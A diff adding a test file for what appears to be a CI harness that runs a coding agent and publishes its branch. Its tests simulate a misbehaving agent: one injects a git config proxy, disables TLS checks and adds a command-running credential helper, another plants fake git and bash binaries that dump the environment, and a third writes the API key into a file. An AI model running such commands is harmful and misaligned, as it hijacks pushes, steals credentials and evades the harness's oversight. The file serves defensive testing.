@@ -1,0 +1,86 @@
+import { mkdtemp, readFile, rm } from "node:fs/promises";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { expect, onTestFinished, test } from "vitest";
+import { openGitHubHost } from "../parts/github-host/host.ts";
+import { useOnHost } from "./source.ts";
+
+const files = { "state.txt": "red\n" };
+
+async function hostOf() {
+  const host = await openGitHubHost({ files });
+  onTestFinished(() => host.close());
+  return host;
+}
+
+/** Somebody who writes down what is sent there. */
+async function openListener() {
+  const heard: string[] = [];
+  const server = createServer((request, response) => {
+    heard.push(`${request.method} ${request.url} ${request.headers.authorization ?? ""}`);
+    response.writeHead(502).end();
+  });
+  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
+  onTestFinished(() => new Promise((done) => server.close(() => done())));
+  return { heard, port: (server.address() as AddressInfo).port };
+}
+
+const loop = {
+  prompt: "Go",
+  "until-bash": "grep -qx green state.txt",
+  "max-iterations": "2",
+  "check-run": "false",
+};
+
+test("settings that an agent writes into our repositories do not lead our pushes to somebody else", async () => {
+  const host = await hostOf();
+  const { heard, port } = await openListener();
+  const evil = `[http]\\n\\tproxy = http://127.0.0.1:${port}\\n\\tsslVerify = false\\n[credential]\\n\\thelper = !touch ${"$PWD"}/owned\\n`;
+  const agent = `find "$RUNNER_TEMP" "$HOME" . -name config -path '*git*' -exec sh -c 'printf "${evil}" >> "$1"' _ {} \\; ; echo green > state.txt; echo done`;
+  const result = await useOnHost({
+    host,
+    inputs: { ...loop, "agent-command": agent, publish: "branch", branch: "mended" },
+  });
+  expect(result.outputs, result.log.join("\n")).toMatchObject({ conclusion: "success", branch: "mended" });
+  expect(host.git.git("show", "mended:state.txt")).toBe("green");
+  expect(heard).toEqual([]);
+  await expect(readFile(join(result.workspace, "owned"))).rejects.toThrow();
+});
+
+test("programs that an agent puts on the path in place of git and bash are started by nobody", async () => {
+  const host = await hostOf();
+  const bin = await mkdtemp(join(tmpdir(), "bin-"));
+  onTestFinished(() => rm(bin, { recursive: true, force: true }));
+  const fake = `printf '#!/bin/sh\\necho "$0" >> ${bin}/started; env >> ${bin}/started; exit 0\\n'`;
+  const agent = `for p in git bash; do ${fake} > ${bin}/$p; chmod +x ${bin}/$p; done; echo nothing done`;
+  const env = { PATH: `${bin}:${process.env["PATH"]}`, HOME: bin };
+  const result = await useOnHost({
+    host,
+    env,
+    inputs: { ...loop, "agent-command": agent, publish: "branch", branch: "mended", "max-iterations": "1" },
+  });
+  expect(result.outputs, result.log.join("\n")).toMatchObject({
+    conclusion: "failure",
+    "stop-reason": "max-iterations",
+  });
+  await expect(readFile(join(bin, "started"), "utf8")).rejects.toThrow();
+});
+
+test("a key that an agent writes into a file is not published", async () => {
+  const host = await hostOf();
+  const result = await useOnHost({
+    host,
+    inputs: {
+      ...loop,
+      "anthropic-api-key": "sk-not-for-the-branch-0123456789",
+      "agent-command": 'echo "$ANTHROPIC_API_KEY" > notes.txt; echo green > state.txt; echo done',
+      publish: "branch",
+      branch: "mended",
+    },
+  });
+  expect(result.outputs["conclusion"]).toBe("failure");
+  expect(result.log.join("\n")).toMatch(/holds a key or a token of this job \(in notes\.txt\)/);
+  expect(host.git.git("for-each-ref", "refs/heads/mended")).toBe("");
+});
